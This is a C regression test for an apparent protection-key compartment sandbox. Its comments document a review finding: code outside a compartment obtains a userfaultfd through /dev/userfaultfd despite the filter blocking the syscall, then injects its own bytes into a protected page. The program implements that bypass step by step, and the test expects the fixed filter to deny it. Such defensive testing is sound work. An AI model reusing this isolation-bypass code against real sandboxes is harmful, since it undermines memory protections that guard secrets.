// Review 30, attacker model B (the default domain's program counter, any
// system call the filter allows), as root: userfaultfd without the
// userfaultfd system call. The filter refuses SYS_userfaultfd ("lets the
// program supply the contents of protected memory"), but Linux 6.1 on
// also hands one out through the misc device /dev/userfaultfd
// (ioctl USERFAULTFD_IOC_NEW): root's by default (mode 0600), any user's
// the device's mode lets open it. The open is a device's, which the
// supervisor lets through (it judges procfs objects only), and the filter
// sends only the runtime's own ioctl to the supervisor. UFFDIO_REGISTER
// and UFFDIO_COPY check no protection key: the default domain registers a
// page of a compartment's memory no one touched yet and puts its own
// bytes there, which the compartment then takes for its own; a missing
// fault also stops the compartment's thread in the kernel until the
// default domain answers (the delay and the address are the default
// domain's to see).
//
// Here main finds, in /proc/self/smaps, the largest anonymous rw-p
// mapping on the vault's key (1) and a page of it
// /proc/self/pagemap calls not present, gets a userfaultfd from
// /dev/userfaultfd, registers the page and copies a page of 'O' into it;
// the vault's own code then reads 'O' there (ATTACK SUCCEEDED). The
// control makes no copy: the vault reads 0.
//
// Seen in the guest (root): ATTACK SUCCEEDED; control: the vault reads 0.
//
// Fixed: the filter refuses every ioctl request of type 0xAA
// (USERFAULTFD_IOC_NEW and the UFFDIO_* requests) as it refuses
// SYS_userfaultfd (runtime/bpf.c); the process stops with one line before
// it has a userfaultfd.
// REQUIRES: pku
// RUN: rm -rf %t && mkdir %t
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog
// RUN: %run %t/prog control > %t/control.out 2>&1 || true
// RUN: FileCheck %s --check-prefix=CONTROL < %t/control.out
// RUN: %run %t/prog attack > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CONTROL: unpopulated page: {{[0-9a-f]+}}
// CONTROL: the vault reads its page: 0
// CONTROL-NOT: ATTACK SUCCEEDED
// CHECK: unpopulated page: {{[0-9a-f]+}}
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: bulkhead: denied: {{.*}}userfaultfd lets the program supply the contents of protected pages
#define _GNU_SOURCE
#include <bulkhead.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }
/* The vault's own code reading a byte of its memory. */
BULKHEAD_ENTRY(vault) int vault_peek(const volatile char *p) { return *p; }

/* The largest anonymous rw-p mapping on key 1, from /proc/self/smaps. */
static void keyed_mapping(unsigned long *lo, unsigned long *hi) {
  FILE *f = fopen("/proc/self/smaps", "r");
  char line[4096], perms[8] = "";
  unsigned long a = 0, b = 0;
  *lo = *hi = 0;
  while (f && fgets(line, sizeof line, f)) {
    unsigned long x, y;
    char p[8];
    int n = 0, key;
    if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &x, &y, p, &n) == 3 && n) {
      int named = line[n] != '\n' && line[n] != 0;
      a = named ? 0 : x, b = named ? 0 : y;
      snprintf(perms, sizeof perms, "%s", p);
    } else if (sscanf(line, "ProtectionKey: %d", &key) == 1 && key == 1 && a &&
               !strcmp(perms, "rw-p") && b - a > *hi - *lo)
      *lo = a, *hi = b;
  }
  if (f)
    fclose(f);
}

int main(int argc, char **argv) {
  int attack = argc > 1 && !strcmp(argv[1], "attack");
  setvbuf(stdout, NULL, _IONBF, 0); /* its lines before a refusal kept */
  printf("vault says %d\n", vault_len());
  unsigned long lo, hi, target = 0;
  keyed_mapping(&lo, &hi);
  int pm = open("/proc/self/pagemap", O_RDONLY);
  for (unsigned long a = hi - 4096; pm >= 0 && lo && a >= lo && !target;
       a -= 4096) {
    uint64_t e = 0;
    if (pread(pm, &e, 8, (off_t)(a / 4096 * 8)) == 8 && !(e >> 62 & 3))
      target = a;
  }
  printf("vault mapping %lx-%lx, unpopulated page: %lx\n", lo, hi, target);
  if (!target)
    return 1;
  if (attack) {
    int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
    int uffd = dev < 0 ? -1 : ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC);
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register reg = {.range = {target, 4096},
                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
    static char page[4096] __attribute__((aligned(4096)));
    memset(page, 'O', sizeof page);
    struct uffdio_copy cp = {.dst = target, .src = (uintptr_t)page,
                             .len = 4096};
    int ok = uffd >= 0 && !ioctl(uffd, UFFDIO_API, &api) &&
             !ioctl(uffd, UFFDIO_REGISTER, &reg) &&
             !ioctl(uffd, UFFDIO_COPY, &cp);
    printf("userfaultfd %d, registered and copied: %d (%s)\n", uffd >= 0, ok,
           ok ? "ok" : strerror(errno));
  }
  fflush(stdout);
  int c = vault_peek((const char *)target);
  printf("the vault reads its page: %c\n", c ? c : '0');
  if (c == 'O')
    printf("ATTACK SUCCEEDED: the default domain wrote the vault's memory\n");
  return 0;
}
